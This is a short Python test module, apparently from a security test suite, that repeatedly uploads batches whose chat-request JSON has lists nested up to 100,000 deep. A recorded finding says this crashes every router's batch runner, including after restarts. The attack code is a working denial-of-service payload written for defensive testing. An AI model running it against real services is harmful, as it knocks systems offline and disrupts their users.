"""Batch lines whose JSON is nested deeper than a parser's stack allows."""

from tests.attacks.target import AttackTarget
from tests.attacks.uploads import batch, line

FINDING = "7: a deeply nested batch line stops every router's batch runner, again at each restart"

DEPTHS = (260, 1000, 100_000)


async def attack(target: AttackTarget) -> None:
    """Send one batch after the other, each with one line per nesting depth."""
    async with target.client() as client:
        while await target.wait_for_rate_limit():
            data = b"".join(line(str(depth), nested(depth)) for depth in DEPTHS)
            await batch(target, client, data)
            await target.sleep(0.5)


def nested(depth: int) -> str:
    """Return a chat request's body with lists nested ``depth`` deep."""
    return (
        '{"messages": [{"role": "user", "content": "Hi"}], "max_tokens": 4, "metadata": '
        + "[" * depth
        + "]" * depth
        + "}"
    )
